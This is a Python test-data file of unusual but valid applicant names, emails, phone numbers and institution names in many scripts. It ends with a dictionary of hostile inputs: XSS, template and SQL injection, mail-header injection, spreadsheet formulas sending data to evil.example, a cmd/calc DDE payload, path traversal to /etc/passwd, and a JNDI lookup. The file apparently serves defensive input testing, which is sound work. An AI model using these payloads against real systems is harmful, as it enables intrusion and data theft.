"""
Answers that are unusual and real, a line or a column each, and answers that mean harm.

Every person and every place is plainly made up. Nobody here is refused, and no letter is altered.
"""


def listed(text: str) -> list[str]:
    """Return what is between the lines' bars."""
    return [each for line in text.strip().splitlines() for each in line.split("│")]


NAMES = listed("""
Robin Example│X│Ng│O'Hara Example│O’Hara Example│D'Angelo Example│N'Golo Example│Example-Muster
Mary-Jane Example Muster│van der Example│de la Muestra y Prueba│von und zu Beispiel│al-Mithali
Al Mithali│bin Contoh│Mac Example│McExample│MacExample│St. Example│Example, Jr.│Example III
Example, M.D., Ph.D.│Robin “Rob” Example│Robin (Rob) Example│Robin E. Example│R. E.│R2 Example
Null│None│True│NaN│undefined│Test│Admin│Select│Drop Table│-Example│=Example│+Example│@example
#Example│Example & Muster│Example/Muster│Example; Muster│Example: Muster│Example * Muster
Robin <Example>│{Example}│{{ Example }}│[Example]│%s Example│100% Example│$Example│\\Example
Zoë Example│Renée Exemple│François Exemple│Ångström Exempel│Øystein Eksempel│Þórdís Dæmi
Łukasz Przykład│Žofie Příklad│Győző Példa│Ștefan Exemplu│İpek Örnek│Işık Örnek│Ñandú Ejemplo
João Exemplo│Ľubica Príklad│Đorđe Primer│Ūla Pavyzdys│Ģirts Paraugs│Õie Näide│Nguyễn Thị Ví Dụ
Trần Ví│Kahuʻōhiʻa Laʻana│Γεωργία Παράδειγμα│Иван Примеров│Ольга Приклад│Їжак Приклад│Ђорђе Пример
Никола Пример│Արմեն Օրինակ│გიორგი მაგალითი│שרה דוגמה│משה בן־דוגמה│محمد مثال│عبد الله مثال
فاطمه نمونه│مریم نمونه‌ای│احمد مثال│अनीता उदाहरण│क्षितिज उदाहरण│অনিতা উদাহরণ│ਹਰਪ੍ਰੀਤ ਉਦਾਹਰਣ
અનિતા ઉદાહરણ│அனிதா எடுத்துக்காட்டு│అనిత ఉదాహరణ│ಅನಿತಾ ಉದಾಹರಣೆ│അനിത ഉദാഹരണം│අනිතා උදාහරණය
สมชาย ตัวอย่าง│ສົມໃຈ ຕົວຢ່າງ│မောင် ဥပမာ│សុខ ឧទាហរណ៍│བསྟན་འཛིན་དཔེ│አበበ ምሳሌ│李例│王小例│歐陽範例
山田例子│やまだ れい│ヤマダ レイ│김예시│남궁예시│ᠮᠣᠩᠭᠣᠯ│ᏣᎳᎩ│ᐃᓄᒃ│𐐏𐐨𐑊𐐬│𠮷野例│X Æ Example│Jr
Mr. Example│Dr Example│Example 2nd│Robin example│ROBIN EXAMPLE│ßtefan
""")
ADDRESSES = listed("""
robin@example.org│r@example.org│robin+wsrs@example.org│robin+wsrs+2026@example.org
ROBIN@example.org│o'hara@example.org│robin.example@mail.rad.example.org│robin-example@example.org
robin_@example.org│_robin@example.org│1234567890@example.org│robin@example.museum
robin@example.co.uk│robin@bücher.example│robin@例え.jp│robin@пример.рф│robin@उदाहरण.भारत
robin@مثال.امارات│robin@xn.example.org│r.o.b.i.n@example.org│robin@123.example.org
robin@ex-ample.org│{robin}@example.org│robin/example@example.org│robin=1@example.org
""")
PHONES = listed("""
(206) 555-0100│206-555-0100│206.555.0100│2065550100│+1 206 555 0100│1-206-555-0100
206 555 0100 x12│206 555 0100 ext. 1234│206 555 0100;ext=9│1-800-EXAMPLE1│555-0100│pager 4411
+44 20 7946 0958│+44 (0)20 7946 0958│+49 30 901820│+81 3-1234-5678│+52 55 1234 5678
+91 98765 43210│011 49 30 901820│00 33 1 99 00 00 00│030 1234567│911│٠٢٠١٢٣٤٥٦٧
206 555 0100 / 206 555 0199│206 555 0100, evenings only│home: 206 555 0100│#4411
*67 206 555 0100│+8816 1234 5678│001 206 555 0100
""")
INSTITUTIONS = listed("""
Example Hospital│X│=Example Imaging│+Plus Radiology│-minus- Imaging│@Home Teleradiology│{Example}
{{ Example }} Health│{% Example %}│<Example> Imaging│Example & Sons│"Example" Radiology
'Example' Clinic│Example, Muster & Prueba, P.S.│Example; Muster│Example\\Muster│Example/Muster
100% Imaging│$ave Clinic│Sana™ Example│Hôpital Exemple│Universitätsklinikum Beispiel│東京例大学
Клиника Пример│مستشفى مثال│Example — Seattle│=SUM(Imaging)│${Example}│#1 Imaging│Example?
Example!│2nd Opinion Radiology│1.5T MRI│Example Hospital (R1–R4), Dept. of Radiology│`Example`
~Example~│*Example*│_Example_│Example | Muster
""")

# What an attacker writes where a person writes a name, by the program that is to be deceived.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '" autofocus onfocus="alert(1)" x="',
    "attribute in apostrophes": "' onmouseover='alert(1)' x='",
    "picture": "<img src=x onerror=alert(1)>",
    "end of the page": "</textarea></title></style></main></body></html><h1>x</h1>",
    "comment": "<!-- --><!--",
    "section": "]]><![CDATA[",
    "drawing": "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": '</form><form action="https://evil.example"><input name="p">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "template": "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{# x #}",
    "template that looks round": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "%s%n{0.__class__}{coordinators}${7*7}",
    "entity": "&lt;script&gt;&quot;&#39;&#x27;&amp;",
    "link": "javascript:alert(1)//https://evil.example",
    "encoded word": "=?utf-8?Q?=0D=0ABcc:_x@evil.example=0D=0A?=",
    "header": "x\r\nBcc: victim@example.org\r\n\r\n<html>",
    "end of a mail": ".\r\nMAIL FROM:<x@evil.example>\r\n--===============boundary==--",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
    "backwards": "\u202egnp.exe\u2066 \u200f",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula of another kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "query": "'; DROP TABLE applications; --",
    "path": "../../../../etc/passwd\x00.html",
    "lookup": "${jndi:ldap://evil.example/a}",
    "long": "W" * 80,
}
